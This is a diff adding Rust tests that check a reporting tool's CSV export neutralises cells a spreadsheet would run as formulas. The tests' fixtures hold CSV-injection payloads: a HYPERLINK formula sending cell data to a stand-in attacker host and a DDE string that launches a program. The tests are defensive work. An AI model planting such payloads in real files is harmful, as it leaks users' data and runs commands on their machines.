@@ -432,3 +432,42 @@ fn drafts_are_listed_under_their_organisme_in_text_and_json() {
         "{text}"
     );
 }
+
+#[test]
+fn csv_cells_a_spreadsheet_would_run_are_neutralised() {
+    // OWASP's list: =, +, -, @, tab, carriage return at the start of a cell.
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    let mut line = String::new();
+    csv_row(&mut line, &hostile);
+    let row = &parse_csv(&line)[0];
+    for (cell, given) in row.iter().zip(hostile) {
+        assert_eq!(cell, &format!("'{given}"), "{line:?}");
+    }
+    // Text that merely contains those characters is kept as given.
+    for plain in ["Formation = métier", "a-b", "x@y.fr", "", "19482-89393"] {
+        assert_eq!(neutralise(plain), plain);
+    }
+}
+
+#[test]
+fn check_csv_neutralises_a_hostile_raison_sociale() {
+    let (outcomes, mut fx) = sample();
+    for o in fx.organismes.values_mut() {
+        o.raison_sociale = text("=HYPERLINK(\"http://evil.example\",\"OK\")");
+    }
+    let r = Report::new(&outcomes, &fx.organismes);
+    let mut out = Vec::new();
+    r.write_csv(&mut out).unwrap();
+    let rows = parse_csv(std::str::from_utf8(&out).unwrap());
+    assert!(rows.len() > 1);
+    for row in &rows[1..] {
+        assert_eq!(row[1], "'=HYPERLINK(\"http://evil.example\",\"OK\")");
+    }
+}
